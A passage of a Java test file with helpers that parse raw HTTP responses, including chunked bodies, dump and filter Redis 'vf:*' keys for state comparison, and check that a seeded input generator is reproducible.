    if (!text.startsWith("HTTP/1.") || split < 0) throw new AssertionError("no HTTP answer to " + req + ": " + abbreviate(text));
    String[] lines = text.substring(0, split).split("\r\n");
    String type = null;
    boolean chunked = false;
    for (String l : lines) {
      String lower = l.toLowerCase(Locale.ROOT);
      if (lower.startsWith("content-type:")) type = l.substring(13).strip();
      if (lower.startsWith("transfer-encoding:") && lower.contains("chunked")) chunked = true;
    }
    byte[] body = java.util.Arrays.copyOfRange(raw, split + 4, raw.length);
    if (chunked) {
      java.io.ByteArrayOutputStream b = new java.io.ByteArrayOutputStream();
      int at = 0;
      while (at < body.length) {
        int eol = new String(body, at, body.length - at, StandardCharsets.ISO_8859_1).indexOf("\r\n");
        int size = Integer.parseInt(new String(body, at, eol, StandardCharsets.ISO_8859_1).split(";")[0].strip(), 16);
        if (size == 0) break;
        b.write(body, at + eol + 2, size);
        at += eol + 2 + size + 2;
      }
      body = b.toByteArray();
    }
    return new Res(Integer.parseInt(lines[0].split(" ")[1]), type, new String(body, StandardCharsets.UTF_8));
  }

  /** Every vf:* key (each site's keys, the sessions) with its serialized value. */
  private static Map<String, String> dump() {
    List<String> keys = new ArrayList<>();
    String cursor = "0";
    do {
      Response r = redis.send(Request.cmd(Command.SCAN).arg(cursor).arg("MATCH").arg("vf:*").arg("COUNT").arg(1000)).await();
      cursor = r.get(0).toString();
      for (Response k : r.get(1)) keys.add(k.toString());
    } while (!cursor.equals("0"));
    List<Request> dumps = new ArrayList<>();
    for (String k : keys) dumps.add(Request.cmd(Command.DUMP).arg(k));
    Map<String, String> out = new TreeMap<>();
    if (keys.isEmpty()) return out;
    List<Response> values = redis.batch(dumps).await();
    for (int i = 0; i < keys.size(); i++) {
      Response v = values.get(i);
      out.put(keys.get(i), v == null ? "" : HexFormat.of().formatHex(v.toBytes()));
    }
    return out;
  }

  /** The dump without a site's device records (lua/lib/devices.lua). */
  private static Map<String, String> withoutDevices(Map<String, String> dump) {
    Map<String, String> out = new TreeMap<>(dump);
    out.keySet().removeIf(k -> k.matches("vf:\\{[^}]+\\}:(device:.*|devices|enrol:.*|device_sessions:.*)"));
    return out;
  }

  private static String abbreviate(String s) {
    return s == null ? "" : s.length() > 300 ? s.substring(0, 300) + "…" : s;
  }

  @Test
  void theGeneratorIsReproducible() {
    Random a = new Random(SEED);
    Random b = new Random(SEED);
    for (int i = 0; i < 50; i++) assertEquals(generate(i, a).toString(), generate(i, b).toString());
  }
}
